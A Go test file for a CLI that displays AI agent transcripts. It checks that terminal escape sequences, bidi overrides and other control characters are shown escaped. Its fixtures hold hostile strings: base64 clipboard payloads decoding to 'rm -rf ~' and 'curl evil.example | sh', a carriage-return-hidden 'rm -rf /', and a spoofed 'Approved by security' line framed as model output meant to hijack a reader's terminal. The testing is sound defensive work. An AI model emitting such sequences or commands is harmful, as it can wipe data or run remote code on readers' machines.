package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"sigs.k8s.io/yaml"

	"github.com/baton-dev/baton/internal/records"
	"github.com/baton-dev/baton/internal/transcriptclient"
)

func TestTerminalSafeEscapesWhatCanDriveATerminal(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"an OSC 52 clipboard write":               {"done\x1b]52;c;cm0gLXJmIH4=\x07 ok", `done\u001b]52;c;cm0gLXJmIH4=\u0007 ok`},
		"CSI colour codes":                        {"\x1b[31mred\x1b[0m", `\u001b[31mred\u001b[0m`},
		"a bare CR that would overwrite the line": {"rm -rf /\rls", `rm -rf /\u000dls`},
		"backspaces and DEL":                      {"ab\b\bcd\x7f", `ab\u0008\u0008cd\u007f`},
		"a C1 CSI, which some terminals obey":     {"\u009b31mred", `\u009b31mred`},
		"every C1 control":                        {"\u0080\u0085\u009f", `\u0080\u0085\u009f`},
		"a bidi override and isolate":             {"if admin \u202e} {\u2066x\u2069", `if admin \u202e} {\u2066x\u2069`},
		"a byte that is not UTF-8":                {"a\x9bb\xffc", `a\x9bb\xffc`},
		"newlines and tabs pass":                  {"line one\n\tline two\n", "line one\n\tline two\n"},
		"text in any script passes":               {"Grüße, 東京 ✓ �", "Grüße, 東京 ✓ �"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := terminalSafe(c.in); got != c.want {
				t.Errorf("terminalSafe(%q) = %q, want %q", c.in, got, c.want)
			}
			var b bytes.Buffer
			n, err := terminalWriter{&b}.Write([]byte(c.in))
			if err != nil || n != len(c.in) || b.String() != c.want {
				t.Errorf("the writer wrote %q (%d, %v), want %q and the input's length", b.String(), n, err, c.want)
			}
		})
	}
}

// hostile is what a model might answer to take over the terminal of whoever reads its run.
const hostile = "Plan ready.\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\rApproved by security\u009b0m \u202eevil\x7f"

// raw reports the first character in s that can drive a terminal, if there is one.
func raw(s string) (rune, bool) {
	for _, r := range s {
		if controlRune(r) {
			return r, true
		}
	}
	return 0, false
}

func hostilePage() transcriptclient.Page {
	body, _ := json.Marshal(map[string]any{"agent": "planner", "provider": "Scripted", "input": "review",
		"output": hostile, "handoff": "gmail", "reason": hostile, "tokens": 10})
	return transcriptclient.Page{Namespace: "ns", Run: "r", UID: "u", Last: 1,
		Records: []records.Record{{Seq: 1, Kind: "step", Step: 1, Time: time.Unix(0, 0).UTC(), Body: body}}}
}

func TestJSONAndYAMLOutputStayExact(t *testing.T) {
	page := hostilePage()
	var out bytes.Buffer
	enc := json.NewEncoder(terminalWriter{&out})
	enc.SetIndent("", "  ")
	if err := enc.Encode(page); err != nil {
		t.Fatal(err)
	}
	if r, ok := raw(out.String()); ok {
		t.Errorf("-o json printed %U raw", r)
	}
	var back transcriptclient.Page
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatalf("-o json is not JSON: %v\n%s", err, out.String())
	}
	if got := back.Records[0].StepBody().Output; got != hostile {
		t.Errorf("-o json changed the output: %q, want %q", got, hostile)
	}

	data, err := transcriptYAML(&records.Export{Records: page.Records})
	if err != nil {
		t.Fatalf("-o yaml of a record with control characters: %v", err)
	}
	out.Reset()
	if _, err := (terminalWriter{&out}).Write(data); err != nil {
		t.Fatal(err)
	}
	if r, ok := raw(out.String()); ok {
		t.Errorf("-o yaml printed %U raw", r)
	}
	var fromYAML struct {
		Records []struct {
			Body struct{ Output string }
		}
	}
	if err := yaml.Unmarshal(out.Bytes(), &fromYAML); err != nil {
		t.Fatalf("-o yaml is not YAML: %v\n%s", err, out.String())
	}
	if diff := cmp.Diff(hostile, fromYAML.Records[0].Body.Output); diff != "" {
		t.Errorf("-o yaml changed the output (-want +got):\n%s", diff)
	}

	// YAML prints a bidi override as it is in a string it need not quote: the override is shown
	// escaped, as text.
	body, _ := json.Marshal(map[string]any{"output": "\u202eevil"})
	data, err = transcriptYAML(&records.Export{Records: []records.Record{{Kind: "step", Body: body}}})
	if err != nil {
		t.Fatal(err)
	}
	if got := terminalSafe(string(data)); !strings.Contains(got, `output: \u202eevil`) {
		t.Errorf("-o yaml of a bidi override:\n%s", got)
	}
}

func TestTextOutputShowsControlCharactersEscaped(t *testing.T) {
	rec := hostilePage().Records[0]
	var out bytes.Buffer
	w := terminalWriter{&out}
	printRecord(w, rec)
	fmt.Fprintln(w, logLine(rec))
	if r, ok := raw(out.String()); ok {
		t.Errorf("printed %U raw:\n%q", r, out.String())
	}
	want := `Plan ready.\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\u000dApproved by security\u009b0m \u202eevil\u007f`
	if !strings.Contains(out.String(), want) {
		t.Errorf("the output does not show %q:\n%s", want, out.String())
	}
}
